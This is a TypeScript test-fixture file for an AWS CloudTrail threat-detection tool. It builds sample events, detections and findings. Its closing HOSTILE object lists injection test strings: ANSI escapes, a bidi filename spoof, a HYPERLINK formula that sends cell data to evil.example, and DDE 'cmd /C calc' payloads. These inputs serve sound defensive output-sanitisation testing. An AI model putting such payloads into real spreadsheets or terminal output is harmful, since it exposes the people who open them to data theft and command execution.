import type { VigilEvent } from '../core/event.js';
import type { Finding } from '../core/finding.js';
import type { Detection, Hit } from '../detect/types.js';
import { createAggregator } from './aggregate.js';

/** Builders of realistic events, detections, hits and findings for the findings, store and format tests. */

export function makeEvent(overrides: Partial<VigilEvent> = {}): VigilEvent {
  const time = overrides.time ?? '2026-11-20T10:00:00Z';
  return {
    time,
    ts: Date.parse(time),
    source: 'cloudtrail',
    accountId: '123456789012',
    region: 'us-east-1',
    eventName: 'StopLogging',
    eventSource: 'cloudtrail.amazonaws.com',
    service: 'cloudtrail',
    principal: 'arn:aws:iam::123456789012:user/alice',
    principalType: 'IAMUser',
    principalAccountId: '123456789012',
    principalName: 'alice',
    sessionName: undefined,
    accessKeyId: 'AKIAIOSFODNN7EXAMPLE',
    mfa: false,
    sourceIp: '203.0.113.7',
    sourceIsService: false,
    userAgent: 'aws-cli/2.15.0 Python/3.11.6 Linux/6.5.0',
    errorCode: undefined,
    readOnly: false,
    eventId: '3f0e1c2a-8b1d-4f5e-9a6b-000000000001',
    raw: { eventVersion: '1.09', eventName: overrides.eventName ?? 'StopLogging' },
    ...overrides,
  };
}

export function makeDetection(overrides: Partial<Detection> = {}): Detection {
  return {
    id: 'cloudtrail-logging-stopped',
    title: 'CloudTrail logging stopped or trail deleted',
    type: 'Stealth:IAMUser/CloudTrailLoggingDisabled',
    severity: 7.5,
    maturity: 'stable',
    source: 'cloudtrail',
    description: '{{vigil.principal}} called {{eventName}}',
    mitre: { tactics: ['TA0005'], techniques: ['T1562.008'] },
    detection: { selection: { eventName: ['StopLogging'] }, condition: 'selection' },
    dedupKey: ['vigil.accountId', 'requestParameters.name'],
    resources: [{ type: 'AwsCloudTrailTrail', id: '{{requestParameters.name}}' }],
    remediation:
      'Re-enable logging with `aws cloudtrail start-logging --name <trail>` and find out who stopped it.',
    references: ['https://docs.aws.amazon.com/awscloudtrail/latest/APIReference/API_StopLogging.html'],
    falsepositives: ['Planned trail migration by the platform team.'],
    tests: [],
    origin: 'builtin',
    file: 'detections/cloudtrail/cloudtrail-logging-stopped.yml',
    ...overrides,
  };
}

export function makeHit(overrides: Partial<Hit> & { event?: VigilEvent } = {}): Hit {
  const event = overrides.event ?? makeEvent();
  return {
    detection: makeDetection(),
    event,
    eventIds: event.eventId ? [event.eventId] : [],
    eventNames: event.eventName ? [event.eventName] : [],
    dedupKey: '123456789012|management-trail',
    title: 'CloudTrail logging stopped or trail deleted',
    description: `${event.principal} called ${event.eventName} on trail management-trail from ${event.sourceIp}.`,
    resources: [
      { type: 'AwsCloudTrailTrail', id: 'arn:aws:cloudtrail:us-east-1:123456789012:trail/management-trail' },
    ],
    ...overrides,
  };
}

/** Three realistic findings, built through the aggregator (one of them from three hits). */
export function sampleFindings(): Finding[] {
  const agg = createAggregator({ now: () => Date.parse('2026-11-20T12:00:00Z') });
  for (let i = 1; i <= 3; i++) {
    const event = makeEvent({
      time: `2026-11-20T10:0${i}:00Z`,
      eventId: `3f0e1c2a-8b1d-4f5e-9a6b-00000000000${i}`,
      eventName: i === 3 ? 'DeleteTrail' : 'StopLogging',
    });
    agg.add(makeHit({ event }));
  }
  const rootEvent = makeEvent({
    time: '2026-11-20T11:30:00Z',
    eventName: 'ConsoleLogin',
    eventSource: 'signin.amazonaws.com',
    principal: 'arn:aws:iam::123456789012:root',
    principalType: 'Root',
    accessKeyId: undefined,
    sourceIp: '198.51.100.23',
    eventId: 'a1b2c3d4-0000-4000-8000-000000000abc',
  });
  agg.add(
    makeHit({
      detection: makeDetection({
        id: 'root-console-login',
        type: 'Policy:IAMUser/RootCredentialUsage',
        severity: 9.2,
        mitre: { tactics: ['TA0001', 'TA0004'], techniques: ['T1078.004'] },
        references: ['https://docs.aws.amazon.com/IAM/latest/UserGuide/id_root-user.html'],
      }),
      event: rootEvent,
      dedupKey: '123456789012|root',
      title: 'Root user signed in to the console',
      description: 'The root user of 123456789012 signed in from 198.51.100.23.',
      resources: [],
    }),
  );
  const svcEvent = makeEvent({
    time: '2026-11-20T09:15:00Z',
    eventName: 'ListBuckets',
    eventSource: 's3.amazonaws.com',
    principal: 'arn:aws:iam::123456789012:role/ci-deploy/build-42',
    principalType: 'AssumedRole',
    accessKeyId: 'ASIAIOSFODNN7EXAMPLE',
    sourceIp: 'ec2.amazonaws.com',
    sourceIsService: true,
    region: 'eu-west-1',
    eventId: undefined,
    raw: { eventName: 'ListBuckets', eventTime: '2026-11-20T09:15:00Z' },
  });
  agg.add(
    makeHit({
      detection: makeDetection({
        id: 's3-bucket-enumeration',
        type: 'Discovery:S3/BucketEnumeration.Unusual',
        severity: 2.5,
        mitre: { tactics: ['TA0007'], techniques: ['T1619'] },
      }),
      event: svcEvent,
      eventIds: [],
      dedupKey: 'arn:aws:iam::123456789012:role/ci-deploy',
      title: 'Unusual bucket enumeration',
      description: 'A CI role listed every bucket in the account.',
      resources: [{ type: 'AwsIamRole', id: 'arn:aws:iam::123456789012:role/ci-deploy' }],
    }),
  );
  return agg.findings();
}

/** Hostile strings: terminal escapes, bidi overrides, newlines and spreadsheet formulas. */
export const HOSTILE = {
  ansi: '\u001b[2J\u001b[31mPWNED\u001b[0m',
  bell: 'ring\u0007bell',
  cr: 'innocent\rEVIL',
  newline: 'line1\nline2',
  c1: 'csi\u009b31m',
  bidi: 'abc\u202Egnp.exe',
  formula: '=HYPERLINK("http://evil.example/?"&A1,"click")',
  plus: '+1+cmd|" /C calc"!A0',
  minus: '-2+3',
  at: '@SUM(1+1)*cmd|" /C calc"!A0',
  tab: '\t=1+1',
  leadingCr: '\r=1+1',
};
